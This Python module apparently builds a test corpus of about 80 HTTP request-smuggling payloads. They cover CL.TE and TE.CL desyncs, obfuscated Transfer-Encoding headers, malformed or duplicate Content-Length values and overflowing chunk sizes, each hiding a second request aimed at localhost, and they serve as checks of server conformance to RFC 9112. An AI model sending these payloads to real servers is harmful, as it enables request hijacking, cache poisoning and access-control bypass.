"""The request-smuggling corpus: ~80 requests that hide a second request where only a lax parser finds it.

Each payload is an attack request whose body (by RFC 9112's framing rules) contains a complete request
``GET /smuggled-N``. A server that frames the message as the RFC says either reads that request as body
bytes, or refuses the message (400/501) and closes; a server that frames it some other way (Content-Length
when Transfer-Encoding is present, an obfuscated Transfer-Encoding ignored, the first of two lengths, an
overflowed chunk size, a bare LF accepted as a chunk-line end...) serves ``/smuggled-N`` as a request of
its own, which is what a front end and a back end disagreeing on framing looks like.

Families:
  cl.te-*   Content-Length covers the whole body, a Transfer-Encoding variant ends it early (RFC 9112 §6.1:
            a server using Transfer-Encoding must close after responding)
  te.cl-*   the smuggled request is inside a chunk; a Content-Length covers only the chunk-size line
  cl-*      duplicate, listed, signed, hex, overflowing or malformed Content-Length (RFC 9110 §8.6)
  chunk-*   chunk sizes that overflow or parse only leniently, bare LF, missing last CRLF (RFC 9112 §7.1)
  misc-*    HTTP/1.0 with Transfer-Encoding, bodies on GET/HEAD/OPTIONS, Expect, Connection: close
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    name: str
    raw: bytes
    smuggled: str  # the path of the hidden request


def smuggled(n: int) -> bytes:
    return b"GET /smuggled-%d HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" % n


# Transfer-Encoding field lines: the plain one, and obfuscations a lax parser might read as "chunked" or
# might ignore. Each is one or more whole field lines without the final CRLF.
TE_VARIANTS: dict[str, bytes] = {
    "plain": b"Transfer-Encoding: chunked",
    "capital": b"Transfer-Encoding: Chunked",
    "upper": b"Transfer-Encoding: CHUNKED",
    "space-before-colon": b"Transfer-Encoding : chunked",
    "tab-value": b"Transfer-Encoding:\tchunked",
    "trailing-space": b"Transfer-Encoding: chunked ",
    "xchunked": b"Transfer-Encoding: xchunked",
    "chunked-suffix": b"Transfer-Encoding: chunked-false",
    "chunked-identity": b"Transfer-Encoding: chunked, identity",
    "identity-chunked": b"Transfer-Encoding: identity, chunked",
    "gzip-chunked": b"Transfer-Encoding: gzip, chunked",
    "quoted": b'Transfer-Encoding: "chunked"',
    "two-fields-ci": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "two-fields-ic": b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    "obs-fold": b"Transfer-Encoding:\r\n chunked",
    "nul-value": b"Transfer-Encoding: chu\x00nked",
    "underscore": b"Transfer_Encoding: chunked",
    "leading-space": b"X-Pad: 1\r\n Transfer-Encoding: chunked",
    "vtab": b"Transfer-Encoding:\x0bchunked",
    "bare-lf-end": b"Transfer-Encoding: chunked\nX-Pad: 1",
    "bare-lf-hidden": b"X-Pad: 1\nTransfer-Encoding: chunked",
    "leading-comma": b"Transfer-Encoding: ,chunked",
    "param": b"Transfer-Encoding: chunked;q=1",
    "chunk": b"Transfer-Encoding: chunk",
    "bare-cr": b"X-Pad: 1\rTransfer-Encoding: chunked",
}


def _post(n: int, fields: bytes, body: bytes, version: bytes = b"HTTP/1.1", method: bytes = b"POST") -> bytes:
    return b"%s /attack-%d %s\r\nHost: 127.0.0.1\r\n%s\r\n\r\n%s" % (method, n, version, fields, body)


def _chunk_of(data: bytes) -> bytes:
    return b"%x\r\n%s\r\n0\r\n\r\n" % (len(data), data)


def build() -> list[Payload]:
    """The corpus, in a fixed order (payload N smuggles /smuggled-N)."""
    out: list[Payload] = []

    def add(name: str, make: object) -> None:
        n = len(out)
        raw = make(n)  # type: ignore[operator]
        out.append(Payload(name, raw, f"/smuggled-{n}"))

    for key, te in TE_VARIANTS.items():
        add(f"cl.te-{key}", lambda n, te=te: _cl_te(n, te))
        add(f"te.cl-{key}", lambda n, te=te: _te_cl(n, te))

    def lengths(n: int, value: bytes, pad: int = 5) -> bytes:
        return _post(n, value, b"x" * pad + smuggled(n))

    def total(n: int, pad: int = 5) -> int:
        return pad + len(smuggled(n))

    add("cl-dup-small-first", lambda n: lengths(n, b"Content-Length: 5\r\nContent-Length: %d" % total(n)))
    add("cl-dup-small-last", lambda n: lengths(n, b"Content-Length: %d\r\nContent-Length: 5" % total(n)))
    add("cl-list-small-first", lambda n: lengths(n, b"Content-Length: 5, %d" % total(n)))
    add("cl-list-small-last", lambda n: lengths(n, b"Content-Length: %d, 5" % total(n)))
    add("cl-list-equal", lambda n: lengths(n, b"Content-Length: %d, %d" % (total(n), total(n))))
    add("cl-plus", lambda n: lengths(n, b"Content-Length: +5\r\nX-Real: %d" % total(n)))
    add("cl-hex", lambda n: lengths(n, b"Content-Length: 0x5"))
    add("cl-decimal-point", lambda n: lengths(n, b"Content-Length: 5.0"))
    add("cl-overflow", lambda n: lengths(n, b"Content-Length: %d" % ((1 << 64) + 5)))
    add("cl-overflow-32", lambda n: lengths(n, b"Content-Length: %d" % ((1 << 32) + 5)))
    add("cl-nul", lambda n: lengths(n, b"Content-Length: 5\x00%d" % total(n)))
    add("cl-space-inside", lambda n: lengths(n, b"Content-Length: 5 %d" % total(n)))
    add("cl-underscore-digits", lambda n: lengths(n, b"Content-Length: 0_5"))
    add("cl-space-before-colon", lambda n: _post(n, b"Content-Length : %d" % len(smuggled(n)), smuggled(n)))
    add("cl-obs-fold", lambda n: _post(n, b"Content-Length:\r\n %d" % len(smuggled(n)), smuggled(n)))
    add("cl-negative", lambda n: _post(n, b"Content-Length: -%d" % len(smuggled(n)), smuggled(n)))
    add("cl-empty", lambda n: _post(n, b"Content-Length: ", smuggled(n)))

    def chunked(n: int, body: bytes) -> bytes:
        return _post(n, b"Transfer-Encoding: chunked", body + smuggled(n))

    add("chunk-overflow-64", lambda n: chunked(n, b"10000000000000005\r\nhello\r\n0\r\n\r\n"))
    add("chunk-overflow-ff", lambda n: chunked(n, b"fffffffffffffffff5\r\nhello\r\n0\r\n\r\n"))
    add("chunk-overflow-32", lambda n: chunked(n, b"100000005\r\nhello\r\n0\r\n\r\n"))
    add("chunk-plus", lambda n: chunked(n, b"+5\r\nhello\r\n0\r\n\r\n"))
    add("chunk-0x", lambda n: chunked(n, b"0x5\r\nhello\r\n0\r\n\r\n"))
    add("chunk-leading-space", lambda n: chunked(n, b" 5\r\nhello\r\n0\r\n\r\n"))
    add("chunk-trailing-space", lambda n: chunked(n, b"5 \r\nhello\r\n0\r\n\r\n"))
    add("chunk-bare-lf", lambda n: chunked(n, b"5\nhello\n0\n\n"))
    add("chunk-bare-lf-last", lambda n: chunked(n, b"5\r\nhello\r\n0\n\n"))
    add("chunk-bare-cr", lambda n: chunked(n, b"5\rhello\r0\r\r"))
    add("chunk-data-too-long", lambda n: chunked(n, b"3\r\nhello\r\n0\r\n\r\n"))
    add("chunk-no-last-crlf", lambda n: chunked(n, b"5\r\nhello\r\n0\r\n"))
    add("chunk-ext-bare-lf", lambda n: chunked(n, b"5;a=b\nhello\r\n0\r\n\r\n"))
    add("chunk-underscore", lambda n: chunked(n, b"0_5\r\nhello\r\n0\r\n\r\n"))

    add("misc-http10-cl.te", lambda n: _cl_te(n, TE_VARIANTS["plain"], b"HTTP/1.0"))
    add("misc-http10-te.cl", lambda n: _te_cl(n, TE_VARIANTS["plain"], b"HTTP/1.0"))
    for method in (b"GET", b"HEAD", b"OPTIONS", b"DELETE"):
        add(
            f"misc-{method.decode().lower()}-with-body",
            lambda n, m=method: _post(n, b"Content-Length: %d" % len(smuggled(n)), smuggled(n), method=m),
        )
    add(
        "misc-expect-100",
        lambda n: _post(n, b"Expect: 100-continue\r\nContent-Length: %d" % len(smuggled(n)), smuggled(n)),
    )
    add(
        "misc-connection-close",
        lambda n: _post(n, b"Connection: close\r\nContent-Length: 2", b"ok" + smuggled(n)),
    )
    add("misc-te-empty", lambda n: _post(n, b"Transfer-Encoding: \r\nContent-Length: 0", smuggled(n)))
    return out


def _cl_te(n: int, te: bytes, version: bytes = b"HTTP/1.1") -> bytes:
    body = b"0\r\n\r\n" + smuggled(n)
    return _post(n, b"Content-Length: %d\r\n%s" % (len(body), te), body, version)


def _te_cl(n: int, te: bytes, version: bytes = b"HTTP/1.1") -> bytes:
    body = _chunk_of(smuggled(n))
    size_line = body.index(b"\r\n") + 2
    return _post(n, b"Content-Length: %d\r\n%s" % (size_line, te), body, version)


CORPUS = build()
